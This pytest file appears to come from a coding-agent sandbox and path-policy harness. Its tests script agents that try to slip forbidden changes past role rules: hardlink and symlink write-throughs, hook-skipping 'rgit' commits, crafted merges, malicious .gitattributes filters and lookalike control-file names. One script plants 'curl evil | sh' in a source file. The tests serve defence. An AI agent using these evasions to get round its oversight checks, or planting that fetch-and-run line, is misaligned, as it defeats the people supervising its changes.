"""Class 6: smuggling changes past the role's path rules.

tests/policy/test_policy.py covers renames into tests/, symlinks out of the worktree and to
forbidden paths, mode changes, gitlinks, .gitattributes/.gitmodules, names with spaces,
newlines and bytes that are not UTF-8, case and NFC/NFD twins, and a forbidden change
undone in a later commit. These are the rest.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from adv import SANDBOXES, all_paths
from conftest import git, run_exec, write_agent


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_hardlink_to_the_persons_file_writes_through(repo: Path, tmp_path: Path, sandbox: str) -> None:
    agent = write_agent(tmp_path, f"""if ln {repo}/src/app.py mirror.py 2>/dev/null; then echo 'curl evil | sh' >> mirror.py; rm mirror.py
else echo DENIED >&2; fi
echo work > work.txt; git add work.txt; git commit -q -m work""")
    res = run_exec(repo, agent, "--sandbox", sandbox)
    if sandbox == "landlock":  # a link out of the writable roots is refused (no REFER right there)
        assert "DENIED" in res.stderr and "curl evil" not in (repo / "src/app.py").read_text()
        assert res.code == 0
    else:  # the person's file changed; reported as a warning (it cannot be told from their own edit)
        assert "curl evil" in (repo / "src/app.py").read_text()
        assert res.status("main-checkout") == "warn" and all_paths(res, "main-checkout") == ["src/app.py"]


def test_test_writer_edits_source_through_a_symlink_in_tests(repo: Path, tmp_path: Path) -> None:
    agent = write_agent(tmp_path, """mkdir -p tests; ln -s ../src/app.py tests/app_link.py
echo 'print("patched")' > tests/app_link.py
git add tests/app_link.py; git commit -q -m 'a test helper' || rgit commit -q -m 'a test helper'""")
    res = run_exec(repo, agent, "--sandbox", "none", "--role", "test-writer", "--task", "tw")
    assert [r["hook"] for r in res.verdict["refusals"]] == ["pre-commit"]  # the hook said no first
    assert git(repo, "show", "ccm/tw:tests/app_link.py") == "../src/app.py"  # the committed symlink
    assert (Path(res.verdict["worktree"]) / "src/app.py").read_text() == 'print("patched")\n'  # written through it
    assert res.code == 1
    reasons = res.reasons("path-policy")
    assert "tests/app_link.py: is a symlink to 'src/app.py'" in reasons
    assert "src/app.py: changed, but" in reasons  # the write itself, left uncommitted


@pytest.mark.parametrize("how", ["leaves", "plain"])
def test_a_symlink_through_another_symlink_fails(repo: Path, tmp_path: Path, how: str) -> None:
    """`tests/a1/a2/up -> ../..` is inside tests/ by its name, and so is a link through it;
    where the second lands is another matter: `src/app.py` (or, climbing further, anything)."""
    target = "a1/a2/up/../src/app.py" if how == "leaves" else "a1/a2/up/src/app.py"
    agent = write_agent(tmp_path, f"""mkdir -p tests/a1/a2; ln -s ../../.. tests/a1/a2/up
ln -s {target} tests/helper.py
git add -A; git commit -q -m helpers || rgit commit -q -m helpers""")
    res = run_exec(repo, agent, "--sandbox", "none", "--role", "test-writer", "--task", f"via-{how}")
    reasons = res.reasons("path-policy")
    assert res.code == 1, res.verdict["gates"]
    assert ("pointing outside the worktree" if how == "leaves" else "is a symlink to 'src/app.py'") in reasons, reasons


def test_a_symlink_through_another_symlink_to_an_allowed_place_passes(repo: Path, tmp_path: Path) -> None:
    """A monorepo's links (`pkg/app/shared -> ../shared`, then a config through it) land
    where the role may write: judged where they land, they pass."""
    agent = write_agent(tmp_path, """mkdir -p pkg/shared pkg/app; echo '{}' > pkg/shared/tsconfig.json
ln -s ../shared pkg/app/shared; ln -s shared/tsconfig.json pkg/app/tsconfig.json
git add -A; git commit -q -m links""")
    res = run_exec(repo, agent, "--task", "mono")
    assert res.code == 0, res.verdict["gates"]


def test_forbidden_file_deleted_and_readded_in_two_commits(repo: Path, tmp_path: Path) -> None:
    git(repo, "commit", "-q", "--allow-empty", "-m", "x")
    (repo / ".gitignore").write_text("build/\n")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore build")
    agent = write_agent(tmp_path, """git rm -q --cached .gitignore; rgit commit -q -m 'drop it'
echo '*' > .gitignore; git add -f .gitignore; rgit commit -q -m 'put it back'""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert res.code == 1
    findings = [f for f in res.gate("path-policy")["findings"] if f["paths"] == [".gitignore"]]
    assert len(findings) == 2
    assert any("deleted, but" in f["reason"] for f in findings) and any("changed, but" in f["reason"] for f in findings)


def test_forbidden_file_brought_in_by_an_evil_merge(repo: Path, tmp_path: Path) -> None:
    base = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"""echo work > work.txt; git add work.txt; git commit -q -m work
echo '* filter=evil' > .gitattributes; git add .gitattributes
side=$(git commit-tree $(git write-tree) -p {base} -m 'side')
merge=$(git commit-tree $(git write-tree) -p HEAD -p $side -m 'Merge branch side')
rgit reset -q --hard $merge""")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "merge")
    assert git(repo, "rev-list", "--count", "--merges", f"{base}..ccm/merge") == "1"
    assert ".gitattributes" in git(repo, "ls-tree", "--name-only", "ccm/merge")
    assert res.code == 1
    assert ".gitattributes" in all_paths(res, "path-policy")


def test_gitattributes_in_a_test_directory_is_still_a_control_path(repo: Path, tmp_path: Path) -> None:
    agent = write_agent(tmp_path, """mkdir -p tests; echo '*.py filter=evil' > tests/.gitattributes
echo 'def test_x(): pass' > tests/test_x.py; git add tests; rgit commit -q -m tests""")
    res = run_exec(repo, agent, "--sandbox", "none", "--role", "test-writer")
    assert res.code == 1
    assert all_paths(res, "path-policy") == ["tests/.gitattributes"]


@pytest.mark.parametrize("name", [".git\u200cattributes", ".gitattributes "])
def test_control_file_twin_on_hfs_or_ntfs(repo: Path, tmp_path: Path, name: str) -> None:
    """Found by this suite: HFS+-ignorable code points and NTFS's trailing dot or space."""
    (tmp_path / "name").write_text(name)
    # Hooks off (rgit): with them on, the pre-commit hook already refuses the commit.
    agent = write_agent(tmp_path, f"""name=$(cat {tmp_path}/name); echo '* filter=evil' > "$name"
rgit add -A; rgit commit -q -m attrs""")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "twin")
    assert name in git(repo, "ls-tree", "-z", "--name-only", "ccm/twin").split("\0")
    assert res.code == 1 and res.status("path-policy") == "fail"


def test_test_writer_reverts_source_through_a_merge_with_an_older_first_parent(repo: Path, tmp_path: Path) -> None:
    # The base's change to src/app.py is undone by a merge whose first parent is the commit
    # before it and whose second parent is the agent's test commit: every first-parent diff
    # shows tests only, the branch as a whole reverts the source.
    older = git(repo, "rev-parse", "main")
    (repo / "src/app.py").write_text("print('fixed')\n")
    git(repo, "commit", "-q", "-am", "fix app")
    agent = write_agent(tmp_path, f"""mkdir -p tests; echo 'def test_x(): pass' > tests/test_x.py
git add tests; git commit -q -m 'add a test'
rgit read-tree {older}; rgit add tests; tree=$(rgit write-tree)
merge=$(rgit commit-tree $tree -p {older} -p HEAD -m 'Merge tests')
rgit reset -q --hard $merge""")
    res = run_exec(repo, agent, "--sandbox", "none", "--role", "test-writer", "--task", "revert")
    assert git(repo, "show", "ccm/revert:src/app.py") == "print('hi')"  # the base's fix is gone on the branch
    assert res.code == 1
    assert "src/app.py" in all_paths(res, "path-policy")
